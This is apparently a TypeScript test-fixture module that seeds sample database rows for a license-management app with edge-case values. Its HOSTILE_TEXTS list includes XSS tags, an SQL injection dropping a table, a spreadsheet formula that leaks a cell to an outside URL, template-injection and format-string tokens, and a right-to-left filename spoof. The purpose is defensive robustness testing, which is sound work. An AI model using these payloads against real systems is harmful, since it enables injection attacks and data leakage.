import { EMPTY_ID } from '../../contract/fields.ts';
import type { ColumnValue } from '../stores/writer.ts';

/** Texts that break careless software. Every one of them must be shown, filtered and exported literally. */
export const HOSTILE_TEXTS: readonly string[] = [
  'C:\\some\\location\\',
  '50% off_sale*',
  'O\'Brien "Bob"',
  '<script>alert("owned")</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
  '+49 30 1234567',
  '-20',
  '@SUM(A1:A9)',
  '\\"',
  'a,b (c) [d]',
  'my_field: x',
  'true',
  '42',
  '-x',
  "Robert'); DROP TABLE licenses;--",
  'Notepad++',
  'Ångström 日本',
  'no-break\u00a0space',
  'right-to-left \u202egnp.exe',
  'zero\u200bwidth and combining e\u0301',
  'İstanbul ıssız ǅ ß ſ K',
  '👩‍👩‍👧‍👦 family and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'two\nlines\tand a tab',
  '{{constructor.constructor("return 1")()}}',
  '$' + '{7*7} %s %n {0}',
  '2024-01-31',
  'null',
  `${'long '.repeat(1_000)}end`,
  'W'.repeat(300),
];

type Row = Readonly<Record<string, ColumnValue>>;

/** Where hostile texts are used: [table, column, first of the texts]. */
const TEXTS: readonly (readonly [table: string, column: string, salt: number])[] = [
  ['applications', 'description', 0],
  ['application_families', 'description', 2],
  ['application_stores', 'description', 1],
  ['agreements', 'name', 3],
  ['agreements', 'description', 1],
  ['contracts', 'name', 3],
  ['contracts', 'description', 1],
  ['users', 'display_name', 0],
  ['users', 'department', 1],
  ['licenses', 'product_description', 0],
  ['licenses', 'notes', 2],
  ['computers', 'host_name', 2],
  ['datacenter_clusters', 'description', 0],
  ['license_policy_fields', 'description', 0],
  ['extended_coverages', 'reason_description', 0],
];

/** Odd values as real services send them: each `every`th row of a table from `first` on gets them. */
const ODD: readonly (readonly [table: string, every: number, first: number, values: Row])[] = [
  ['applications', 3_001, 17, { platform: 'Haiku' }],
  ['applications', 97, 8, { overrides_application_id: EMPTY_ID }],
  ['applications', 311, 44, { family_id: EMPTY_ID }],
  ['application_types', 1_000, 0, { parent_id: EMPTY_ID }],
  ['application_metrics', 250, 100, { metric_setting: 'UsersByInvitation', metric_setting_interval_type: 'Quarterly' }],
  ['application_compatibility', 400, 12, { compatibility_type: 'SideGrade' }],
  ['article_numbers', 100, 6, { application_id: EMPTY_ID }],
  ['article_numbers', 200, 31, { type: 'EAN' }],
  ['agreements', 17, 4, { parent_id: EMPTY_ID, contact_id: EMPTY_ID }],
  ['agreements', 33, 9, { type_id: EMPTY_ID }],
  ['contracts', 17, 4, { parent_id: EMPTY_ID, contact_id: EMPTY_ID }],
  ['contracts', 33, 9, { type_id: EMPTY_ID }],
  ['agreement_periods', 50, 7, { valid_from: null, valid_to: null }],
  ['contract_periods', 50, 7, { valid_from: null, valid_to: null }],
  ['licenses', 33, 11, { contract_id: EMPTY_ID }],
  ['licenses', 50, 23, { organization_id: EMPTY_ID }],
  ['licenses', 173, 40, { media_storage: 'C:\\some\\location\\' }],
  ['licenses', 499, 33, { incomplete_reasons: 4_096 }],
  ['license_tracking', 90, 5, { primary_use_rights: 1 + 524_288 }],
  ['license_transfers', 80, 3, { use_rights: 1 + 1_048_576 }],
  ['extended_coverages', 10_000, 15, { reason: 'ColdStandby' }],
  ['extended_coverages', 40, 11, { application_id: EMPTY_ID, covered_application_id: EMPTY_ID }],
  ['computers', 401, 21, { status: 'Retired' }],
  ['user_discovery_sources', 500, 20, { type: 99 }],
];

/** The row of each table that has nothing but its id: on the first page, but not at its top. */
const BARE: Readonly<Record<string, number>> = {
  applications: 70,
  application_families: 3,
  application_types: 4,
  agreement_types: 3,
  contract_types: 3,
  agreements: 13,
  contracts: 13,
  users: 70,
  licenses: 70,
  computers: 9,
  datacenter_clusters: 4,
};
/** In a sample too small to have that row. */
const BARE_OF_FEW = 5;

/** Gets each row of a sample with its position in its table; returns the row to write instead. */
export type Disturb = (table: string, row: Row, index: number) => Row;

/** Spreads hostile texts, nulls, empty ids and unknown values over `size` top-level records; most rows stay as they are. */
export function disturbing(size: number): Disturb {
  // The smaller the sample, the more often: its large tables always contain every text, and still they are the exception.
  const usual = Math.max(7, Math.floor(size / 300));
  return (table, row, index) => {
    if (BARE[table] !== undefined && index === (size < 1_000 ? Math.min(BARE_OF_FEW, BARE[table]) : BARE[table]))
      return { id: row.id, departed_date: row.departed_date };
    let disturbed = row;
    for (const [name, column, salt] of TEXTS) {
      const stride = name === 'agreements' || name === 'contracts' ? 7 : usual;
      if (name === table && index % stride === stride - 4 + (salt % 4))
        disturbed = { ...disturbed, [column]: HOSTILE_TEXTS[(Math.floor(index / stride) + salt) % HOSTILE_TEXTS.length] };
    }
    for (const [name, every, first, values] of ODD)
      if (name === table && index % every === first) disturbed = { ...disturbed, ...values };
    return disturbed;
  };
}
